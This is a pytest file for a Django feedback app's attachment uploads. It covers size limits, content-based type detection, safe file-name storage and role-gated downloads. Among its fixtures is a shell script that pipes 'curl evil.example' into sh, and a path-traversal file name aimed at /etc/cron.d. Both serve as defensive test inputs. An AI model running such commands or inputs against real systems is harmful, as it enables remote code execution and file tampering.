"""Attachments: size cap, type from the content, safe storage, signed-in
downloads."""

from __future__ import annotations

from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from rest_framework.test import APIClient

from feedback.models import FeedbackAttachment, FeedbackReport
from tests.api.conftest import assert_envelope

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64
GIF = b"GIF89a" + b"\x00" * 64
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 64
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 100
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 100
SCRIPT = b"#!/bin/sh\ncurl evil.example | sh\n"


def upload(name: str, content: bytes, content_type: str = "image/png"):
    return SimpleUploadedFile(name, content, content_type)


@pytest.fixture
def report(github_settings, tester_client) -> FeedbackReport:
    response = tester_client.post(
        "/testing/feedback",
        {"title": "t", "description": "d", "category": "UX"},
        format="json",
    )
    return FeedbackReport.objects.get(pk=response.json()["id"])


def attach(client, report, file):
    return client.post(
        f"/testing/feedback/{report.pk}/attachments", {"file": file}, format="multipart"
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("screen.png", PNG, "image/png"),
        ("photo.jpg", JPEG, "image/jpeg"),
        ("anim.gif", GIF, "image/gif"),
        ("pic.webp", WEBP, "image/webp"),
        ("spec.pdf", PDF, "application/pdf"),
        ("worker.log", "Zahlung fehlgeschlagen ✗\n".encode(), "text/plain"),
        ("ansi.log", b"\x1b[31mERROR\x1b[0m\tpayout\r\n", "text/plain"),
        ("rows.csv", b"a,b\n1,2\n", "text/csv"),
        ("session.har", b'{"log": {"entries": []}}', "application/json"),
        ("MZ notes.txt", b"MZ is a country code\n", "text/plain"),
    ],
)  # fmt: skip
def test_allowed_types_are_judged_from_the_content(
    tester_client, report, name, content, expected
):
    # Whatever the client claims, the bytes decide.
    response = attach(tester_client, report, upload(name, content, "application/x"))
    assert response.status_code == 201, response.content
    assert response.json()["content_type"] == expected
    assert response.json()["file_size"] == len(content)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "content", [ELF, PE, MACHO, SCRIPT], ids=["elf", "pe", "macho", "shebang"]
)
def test_a_disguised_executable_is_refused_with_415(tester_client, report, content):
    response = attach(tester_client, report, upload("cute-cat.png", content))
    body = assert_envelope(response, 415, "unsupported_media_type")
    assert "not accepted" in body["message"]
    assert not FeedbackAttachment.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "content",
    [b"plain\x00text", b"\xff\xfe\xfd not utf-8", b"PK\x03\x04\x14\x00zip"],
    ids=["nul", "latin", "zip"],
)
def test_content_that_is_neither_image_pdf_nor_text_is_refused(
    tester_client, report, content
):
    assert_envelope(attach(tester_client, report, upload("a.txt", content)), 415)


@pytest.mark.django_db
def test_an_oversize_file_gets_413(tester_client, report):
    with override_settings(FEEDBACK_ATTACHMENT_MAX_BYTES=1024):
        response = attach(tester_client, report, upload("big.log", b"a" * 1025))
    assert_envelope(response, 413, "payload_too_large")
    assert not FeedbackAttachment.objects.exists()


@pytest.mark.django_db
def test_a_request_body_far_over_the_cap_is_refused_before_parsing(
    tester_client, report
):
    with override_settings(FEEDBACK_ATTACHMENT_MAX_BYTES=10):
        response = attach(tester_client, report, upload("big.log", b"a" * 2_000_000))
    assert_envelope(response, 413)


@pytest.mark.django_db
def test_an_oversize_file_in_a_submission_stores_no_report(
    github_settings, tester_client
):
    with override_settings(FEEDBACK_ATTACHMENT_MAX_BYTES=100):
        response = tester_client.post(
            "/testing/feedback",
            {
                "title": "t",
                "description": "d",
                "category": "UX",
                "files": [upload("ok.png", PNG[:50]), upload("big.log", b"a" * 101)],
            },
            format="multipart",
        )
    assert_envelope(response, 413)
    assert not FeedbackReport.objects.exists()
    assert not FeedbackAttachment.objects.exists()


@pytest.mark.django_db
def test_an_empty_file_is_a_400(tester_client, report):
    assert_envelope(attach(tester_client, report, upload("empty.txt", b"")), 400)


@pytest.mark.django_db
def test_a_filename_with_path_components_is_stored_safely(tester_client, report):
    response = attach(
        tester_client, report, upload("../../../etc/cron.d/x\x00evil.log", b"hi\n")
    )
    assert response.status_code == 201, response.content
    attachment = FeedbackAttachment.objects.get()
    assert attachment.filename == "xevil.log"
    media = Path(settings.MEDIA_ROOT).resolve()
    stored = Path(attachment.file.path).resolve()
    assert stored.is_relative_to(media / "attachments" / str(report.pk))
    # A generated name, unrelated to the uploader's.
    assert "evil" not in stored.name and len(stored.name) == 32
    assert stored.read_bytes() == b"hi\n"
    assert response.json()["file_path"] == attachment.file.name


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("C:\\Users\\me\\Desktop\\shot.png", "shot.png"),
        ("..", "attachment"),
        (".bashrc", "bashrc"),
        ("a" * 300 + ".log", "a" * 251 + ".log"),
    ],
)
def test_filenames_lose_directories_and_leading_dots(raw, expected):
    from feedback.attachments import safe_filename

    assert safe_filename(raw) == expected


@pytest.mark.django_db
def test_downloads_are_for_signed_in_users_with_a_role(
    tester_client, owner_client, outsider, api_client, report
):
    created = attach(tester_client, report, upload("notes.txt", b"step 1\n"))
    url = created.json()["download_url"]
    assert url.startswith("http://testserver/testing/feedback/")

    response = owner_client.get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == b"step 1\n"
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert 'attachment; filename="notes.txt"' in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]

    assert_envelope(api_client.get(url), 401)
    outsider_client = APIClient()
    outsider_client.force_authenticate(outsider)
    assert_envelope(outsider_client.get(url), 403)
    other = url.rsplit("/", 1)[0] + "/9a1b2c3d-0000-4000-8000-000000000000"
    assert_envelope(owner_client.get(other), 404)


@pytest.mark.django_db
def test_only_the_reporter_or_a_triager_adds_attachments(
    report, second_tester, owner_client
):
    other = APIClient()
    other.force_authenticate(second_tester)
    assert_envelope(attach(other, report, upload("x.txt", b"x")), 403)
    assert attach(owner_client, report, upload("x.txt", b"x")).status_code == 201


@pytest.mark.django_db
def test_the_number_of_attachments_per_report_is_capped(tester_client, report):
    with override_settings(FEEDBACK_MAX_ATTACHMENTS_PER_REPORT=2):
        for _ in range(2):
            assert (
                attach(tester_client, report, upload("a.txt", b"a")).status_code == 201
            )
        assert_envelope(attach(tester_client, report, upload("a.txt", b"a")), 400)
